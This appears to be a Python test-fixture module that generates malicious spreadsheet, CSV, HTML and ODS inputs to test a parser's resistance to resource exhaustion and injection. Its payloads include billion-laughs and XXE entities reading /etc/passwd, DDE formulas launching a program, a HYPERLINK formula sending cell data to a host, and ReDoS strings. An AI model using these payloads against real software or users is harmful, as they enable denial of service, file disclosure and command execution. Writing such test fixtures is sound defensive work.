"""Workbooks that are bombs, name entities, or claim to be larger than any sheet."""

from __future__ import annotations

import io
import zipfile

import openpyxl

from tests.archive_making import zipped
from tests.builders import NOTICE
from tests.forms import ROW, as_bytes, fill, plain_cells, save
from tests.workbooks import RESOURCES

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_SHEET = "xl/worksheets/sheet1.xml"
COLUMNS = len(NOTICE.form.columns)

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "哈哈哈哈哈哈哈哈哈哈">{_LAUGHS}]>'
"""A thousand million laughs."""
QUADRATIC = f'<!DOCTYPE x [<!ENTITY l9 "{"哈" * 200_000}">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>'
DTD_OUTSIDE = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'


def good() -> bytes:
    return save(plain_cells([ROW]))


def with_part(name: str, content: bytes, data: bytes | None = None) -> bytes:
    """The good workbook with one part of its package replaced, or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data or good())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info.filename, source.read(info))
        target.writestr(name, content)
    return out.getvalue()


def sheet(rows: str, *, before: str = "", after: str = "", doctype: str = "") -> bytes:
    """The good workbook with another sheet."""
    text = f"<?xml version='1.0'?>{doctype}<worksheet {_NS}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>"
    return with_part(_SHEET, text.encode())


def text_row(times: int, content: str = "&l9;") -> str:
    return "<row>" + f'<c t="inlineStr"><is><t>{content}</t></is></c>' * times + "</row>"


def bomb_part(scale: int) -> bytes:
    """A sheet of blanks."""
    return with_part(_SHEET, b"<worksheet " + _NS.encode() + b">" + b" " * (70_000_000 * scale) + b"</worksheet>")


def entities(doctype: str, times: int = 1) -> bytes:
    return sheet(text_row(times), doctype=doctype)


def entities_in(name: str) -> bytes:
    """In another part of the package than the sheet."""
    return with_part(name, f"<?xml version='1.0'?>{LAUGHS}<x {_NS}>&l9;</x>".encode())


def million_columns(scale: int) -> bytes:
    return sheet("<row>" + "<c><v>1</v></c>" * (100_000 * scale) + "</row>")


def far_corner() -> bytes:
    """One cell at the end of the largest sheet, and one far beyond it."""
    return sheet(
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="99999999"><c r="ZZZZZZ99999999"><v>1</v></c></row>',
        before='<dimension ref="A1:XFD1048576"/>',
    )


def million_rows(scale: int) -> bytes:
    return sheet("<row><c><v>1</v></c></row>" * (100_000 * scale))


def merges(number: int = 42_000) -> bytes:
    """So many merged ranges over the good table."""
    ranges = "".join(f'<mergeCell ref="A{row}:I{row + 1}"/>' for row in range(10, 10 + 2 * number, 2))
    return _edited(f'<mergeCells count="{number}">{ranges}</mergeCells>')


def merged_whole() -> bytes:
    """The whole sheet is one merged range, three times over."""
    return _edited("<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 3 + "</mergeCells>")


def _edited(after: str) -> bytes:
    data = good()
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        text = package.read(_SHEET).decode()
    start, _, rest = text.partition("</sheetData>")
    rest = rest[rest.index("<pageMargins") :] if "<pageMargins" in rest else rest
    return with_part(_SHEET, f"{start}</sheetData>{after}{rest}".encode(), data)


def deep(scale: int) -> bytes:
    levels = 20_000 * scale
    return sheet("<a>" * levels + "</a>" * levels)


def many_strings(scale: int) -> bytes:
    strings = "<si><t>x</t></si>" * (100_000 * scale)
    return with_part("xl/sharedStrings.xml", f"<sst {_NS}>{strings}</sst>".encode())


def many_styles(scale: int) -> bytes:
    styles = "<xf/>" * (50_000 * scale)
    return with_part("xl/styles.xml", f"<styleSheet {_NS}><cellXfs>{styles}</cellXfs></styleSheet>".encode())


def formulas() -> bytes:
    """Formulas that call programs and the network, and texts that a spreadsheet would take for formulas."""
    row = list(ROW)
    row[1] = "=cmd|'/C calc'!A0"
    row[2] = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"智学网")'
    row[3] = "@SUM(1+1)*cmd|'/C calc'!A0"
    row[4] = "+1+cmd|'/C calc'!A0"
    row[6] = "-2+3+cmd|'/C calc'!A0"
    book = openpyxl.Workbook()
    fill(book.worksheets[0], plain_cells([row]))
    return as_bytes(book)


def slow_patterns() -> bytes:
    """In each cell what makes a careless regular expression try for ever."""
    runs = ("1" * 32_000 + "x", "(" * 30_000, "0393-" * 6_000 + "!", "2020年" * 8_000, " " * 32_000 + "x", "教APP备" * 6_000,
            "a@" * 16_000, "县" * 32_000, "1-" * 16_000 + "转")  # fmt: skip
    return save({**plain_cells([runs]), "A2": "填报单位：" + " " * 30_000 + "x", "F2": "填报时间：" + "2" * 30_000})


def long_string() -> bytes:
    """One string of 30,000 characters that stands in 20,000 cells."""
    cells = "".join('<row><c t="s"><v>0</v></c></row>' for _ in range(20_000))
    return with_part("xl/sharedStrings.xml", f"<sst {_NS}><si><t>{'长' * 30_000}</t></si></sst>".encode(), sheet(cells))


def wide_csv(scale: int) -> bytes:
    return b",".join([b"x"] * (500_000 * scale))


def long_csv(scale: int) -> bytes:
    return b"a,b\n" * (400_000 * scale)


def deep_html(scale: int) -> bytes:
    return b"<html>" + b"<table><tr><td>" * (10_000 * scale)


def spanning_html() -> bytes:
    return b"<html><table>" + b"<tr><td colspan=1000000000 rowspan=1000000000>x</td></tr>" * 1_000 + b"</table>"


def repeating_ods() -> bytes:
    """A cell, repeated over a thousand million columns and rows."""
    names = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for short, name in (("office", "office"), ("table", "table"), ("text", "text"))
    )
    cell = '<table:table-cell table:number-columns-repeated="1000000000" office:value-type="string"><text:p>x</text:p></table:table-cell>'
    rows = f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row>'
    body = f"<office:body><office:spreadsheet><table:table table:name='x'>{rows}</table:table></office:spreadsheet></office:body>"
    return zipped(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
            ("content.xml", f"<office:document-content {names}>{body}</office:document-content>".encode()),
            ("META-INF/manifest.xml", b"<manifest/>"),
        ]
    )


def far_spreadsheetml() -> bytes:
    cell = '<Row ss:Index="999999999"><Cell ss:Index="999999999" ss:MergeAcross="999999999"><Data ss:Type="String">x</Data></Cell></Row>'
    names = (
        'xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"'
    )
    head = '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
    return f'{head}<Workbook {names}><Worksheet ss:Name="a"><Table>{cell * 100}</Table></Worksheet></Workbook>'.encode()


def far_xls() -> bytes:
    """An .xls with a cell so far from the others that its reader asks for 100 GB to hold what lies between, and aborts.

    Found by fuzzing: python-calamine makes room for the whole rectangle ([MS-XLS] 2.4.149: row and column of LabelSst).
    """
    data = bytearray((RESOURCES / "form.xls").read_bytes())
    place = data.rindex(b"\xfd\x00\x0a\x00")
    data[place + 4 : place + 8] = b"\xf0\xff\xf0\xff"
    return bytes(data)
